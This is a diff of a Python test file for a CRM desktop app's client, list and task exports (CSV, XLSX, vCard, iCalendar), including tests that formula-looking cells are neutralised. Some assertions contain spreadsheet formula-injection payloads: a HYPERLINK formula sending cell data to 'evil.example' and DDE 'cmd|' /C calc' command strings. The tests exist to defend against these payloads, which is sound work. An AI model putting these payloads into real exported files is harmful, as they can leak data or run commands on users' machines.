@@ -13,7 +13,7 @@ from sqlalchemy import func, insert, select
 from statements import StatementLog
 
 from crm_desktop.db.models import AuditEntry, Client
-from crm_desktop.services import clients, documents, exports, invoices, users
+from crm_desktop.services import clients, documents, export_files, exports, invoices, users
 from crm_desktop.services.clients import ClientFilter
 from crm_desktop.services.context import Actor, ServiceContext
 from crm_desktop.services.errors import PermissionDenied, ValidationError
@@ -91,7 +91,7 @@ def test_the_csv_holds_each_listed_client_as_excel_reads_it(ctx, tmp_path):
         tags=["z", "a"],
     )
     target = tmp_path / "clients.csv"
-    assert exports.clients_csv(ctx, target) == 2
+    assert exports.clients_file(ctx, target) == 2
     assert target.read_bytes().startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for Cyrillic
     assert read_csv(target) == [
         list(exports.CLIENT_COLUMNS),
@@ -138,12 +138,14 @@ def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(ctx, tmp_
     )
     clients.create(ctx, name="+998 90 123 45 67 Aziz", address="Toshkent")
     target = tmp_path / "clients.csv"
-    assert exports.clients_csv(ctx, target) == 2
+    assert exports.clients_file(ctx, target) == 2
     rows = {row[1]: row for row in read_csv(target)[1:]}
     evil = rows['\'=HYPERLINK("http://evil.example/?"&A1,"Click")']
     assert evil[7] == "'@SUM(1+1)*cmd|' /C calc'!A0" and evil[9] == "'-2+3"
     assert rows["'+998 90 123 45 67 Aziz"][9] == "Toshkent"  # what starts otherwise is left as it is
-    assert exports.neutralised("-12.50") == "-12.50" and exports.neutralised(-3) == -3  # numbers stay numbers
+    assert (
+        export_files.neutralised("-12.50") == "-12.50" and export_files.neutralised(-3) == -3
+    )  # numbers stay numbers
     [entry] = [details for action, details in audit_rows("clients") if action == "export"]
     assert entry["rows"] == 2 and entry["file"] == "clients.csv"
 
@@ -165,9 +167,9 @@ def test_pages_give_the_same_file_as_reading_each_client_on_its_own(ctx, tmp_pat
         )
     f = ClientFilter(search="Mijoz")
     by_page = tmp_path / "paged.csv"
-    assert exports.clients_csv(ctx, by_page, f, page_size=5) == 23
+    assert exports.clients_file(ctx, by_page, f, page_size=5) == 23
     one_by_one = [exports._client_line(clients.get(ctx, i)) for i in clients.list_ids(ctx, f)]
-    assert read_csv(by_page)[1:] == [[str(exports.neutralised(v)) for v in line] for line in one_by_one]
+    assert read_csv(by_page)[1:] == [[str(export_files.neutralised(v)) for v in line] for line in one_by_one]
 
 
 def test_a_user_exports_only_the_clients_they_may_see(ctx, tmp_path):
@@ -180,14 +182,14 @@ def test_a_user_exports_only_the_clients_they_may_see(ctx, tmp_path):
         ctx.db, actor=Actor(dilnoza.id, "dilnoza", "staff", can_export=True), clock=ctx.clock
     )
     target = tmp_path / "mine.csv"
-    assert exports.clients_csv(as_dilnoza, target, page_size=1) == 2
+    assert exports.clients_file(as_dilnoza, target, page_size=1) == 2
     assert sorted(row[1] for row in read_csv(target)[1:]) == ["Dilnoza's own", "Everyone's"]
 
 
 def test_5000_clients_are_read_in_a_few_dozen_statements_not_one_per_client(ctx, tmp_path):
     many_clients(ctx, 5000)
     with StatementLog(ctx.db.engine) as log:
-        assert exports.clients_csv(ctx, tmp_path / "all.csv") == 5000
+        assert exports.clients_file(ctx, tmp_path / "all.csv") == 5000
     seen = log.sent
     reads = [
         s
@@ -202,7 +204,7 @@ def test_5000_clients_are_read_in_a_few_dozen_statements_not_one_per_client(ctx,
 def test_progress_counts_up_to_the_total_page_by_page(ctx, tmp_path):
     many_clients(ctx, 2500)
     progress, steps = recording()
-    exports.clients_csv(ctx, tmp_path / "all.csv", progress=progress)
+    exports.clients_file(ctx, tmp_path / "all.csv", progress=progress)
     assert [(done, total) for done, total, _ in steps] == [
         (0, 2500),
         (1000, 2500),
@@ -227,7 +229,7 @@ def test_cancel_half_way_leaves_no_file_and_the_older_one_untouched(ctx, tmp_pat
 
     progress = Progress(report)
     with pytest.raises(Cancelled):
-        exports.clients_csv(ctx, target, progress=progress)
+        exports.clients_file(ctx, target, progress=progress)
     assert steps == [0, 1000]  # it stopped at the next step: page 3 was never read
     assert target.read_text(encoding="utf-8") == "last week's export"
     assert sorted(p.name for p in out.iterdir()) == ["clients.csv"]  # no .part left behind
@@ -242,10 +244,114 @@ def test_no_export_without_the_export_right(ctx, tmp_path):
     out = tmp_path / "out"
     out.mkdir()
     with pytest.raises(PermissionDenied, match="export"):
-        exports.clients_csv(as_staff, out / "c.csv")
+        exports.clients_file(as_staff, out / "c.csv")
     with pytest.raises(PermissionDenied, match="export"):
         exports.invoice_pdfs(as_staff, [], out)
     assert list(out.iterdir()) == []
+
+
+def _three_scripts(ctx) -> None:
+    clients.create(
+        ctx, name="Ёлкин Дмитрий", phones=["+79161234567"], emails=["elkin@example.ru"], tags=["vip", "b2b"]
+    )
+    clients.create(ctx, name="محمد الأحمد", phones=["+998912345678"], address="دبي")
+    clients.create(
+        ctx, name="Oʻgʻiloy Rahimova", emails=["ogiloy@example.uz"], notes="=1+1 looks like a formula"
+    )
+
+
+def test_the_workbook_holds_every_client_with_text_kept_as_text(ctx, tmp_path):
+    from python_calamine import CalamineWorkbook
+
+    _three_scripts(ctx)
+    target = tmp_path / "clients.xlsx"
+    assert exports.clients_file(ctx, target) == 3
+    rows = CalamineWorkbook.from_path(str(target)).get_sheet_by_index(0).to_python()
+    assert rows[0] == list(exports.CLIENT_COLUMNS)
+    by_name = {r[1]: r for r in rows[1:]}
+    assert by_name["Ёлкин Дмитрий"][4] == "+79161234567" and by_name["Ёлкин Дмитрий"][10] == "b2b; vip"
+    assert by_name["محمد الأحمد"][9] == "دبي"
+
+
+def test_clients_exported_as_contacts_read_back_in_a_mail_program(ctx, tmp_path):
+    import vobject
+
+    _three_scripts(ctx)
+    target = tmp_path / "clients.vcf"
+    assert exports.clients_file(ctx, target) == 3
+    cards = {c.fn.value: c for c in vobject.readComponents(target.read_text(encoding="utf-8"))}
+    assert set(cards) == {"Ёлкин Дмитрий", "محمد الأحمد", "Oʻgʻiloy Rahimova"}
+    assert cards["Ёлкин Дмитрий"].tel.value == "+79161234567"
+    assert cards["Ёлкин Дмитрий"].categories.value == ["b2b", "vip"]
+    assert cards["Oʻgʻiloy Rahimova"].note.value == "=1+1 looks like a formula"
+
+
+def test_export_then_import_of_clients_loses_nothing(ctx, tmp_path):
+    """Spans services/exports.py and services/importing.py: a workbook exported is a file to import."""
+    from crm_desktop.db.engine import Database
+    from crm_desktop.db.migrate import upgrade
+    from crm_desktop.services import import_fields, importing, sheets
+    from crm_desktop.services.context import ServiceContext
+
+    _three_scripts(ctx)
+    for suffix in (".xlsx", ".csv"):
+        target = tmp_path / f"clients{suffix}"
+        exports.clients_file(ctx, target)
+        other = Database.open(f"sqlite:///{tmp_path / f'other{suffix}.sqlite3'}")
+        try:
+            upgrade(other)
+            elsewhere = ServiceContext(other)
+            sheet = sheets.read(target)
+            mapping = import_fields.guess("clients", sheet.headers)
+            importing.run(elsewhere, importing.preview(elsewhere, sheet, mapping, region="UZ"))
+            ids = clients.list_ids(elsewhere, ClientFilter(), limit=None)
+            got = {c.name: (c.phones, c.emails, c.tags, c.address) for c in clients.details(elsewhere, ids)}
+        finally:
+            other.dispose()
+        want = {
+            c.name: (c.phones, c.emails, c.tags, c.address)
+            for c in clients.details(ctx, clients.list_ids(ctx, ClientFilter(), limit=None))
+        }
+        assert got == want, suffix
+
+
+def test_a_list_is_written_as_shown_and_logged(ctx, tmp_path, audit_rows):
+    from python_calamine import CalamineWorkbook
+
+    target = tmp_path / "deals.xlsx"
+    rows = [["Website", "1,500.00 USD"], ["=cmd|' /C calc'!A0", "0.00 USD"]]
+    assert exports.list_file(ctx, target, "deals", ["Deal", "Amount"], iter(rows), 2, {"search": "web"}) == 2
+    assert CalamineWorkbook.from_path(str(target)).get_sheet_by_index(0).to_python() == [
+        ["Deal", "Amount"],
+        *rows,  # the formula-looking cell is text in the workbook: shown, never run
+    ]
+    csv_target = tmp_path / "deals.csv"
+    exports.list_file(ctx, csv_target, "deals", ["Deal", "Amount"], iter(rows), 2, {})
+    assert read_csv(csv_target)[2][0].startswith("'=")
+    assert audit_rows("deals")[0] == ("export", {"rows": 2, "search": "web", "file": "deals.xlsx"})
+    with pytest.raises(ValidationError, match=".csv or .xlsx"):
+        exports.list_file(ctx, tmp_path / "deals.pdf", "deals", ["Deal"], iter([]), 0, {})
+
+
+def test_tasks_become_calendar_events_with_their_reminders(ctx, tmp_path):
+    from datetime import timedelta
+
+    from icalendar import Calendar
+
+    from crm_desktop.services import tasks
+
+    due = ctx.now() + timedelta(days=2)
+    tasks.create(
+        ctx, title="Call back", due_at=due, remind_at=due - timedelta(minutes=15), duration_minutes=45
+    )
+    tasks.create(ctx, title="Someday")  # no due time: not a calendar event
+    target = tmp_path / "tasks.ics"
+    assert exports.tasks_ics(ctx, target) == 1
+    [event] = Calendar.from_ical(target.read_bytes()).walk("VEVENT")
+    assert str(event["summary"]) == "Call back"
+    assert event.decoded("dtstart") == due and event.decoded("dtend") == due + timedelta(minutes=45)
+    [alarm] = event.walk("VALARM")
+    assert alarm.decoded("trigger") == timedelta(minutes=-15)
 
 
 def test_the_cli_progress_prints_a_line_per_step():
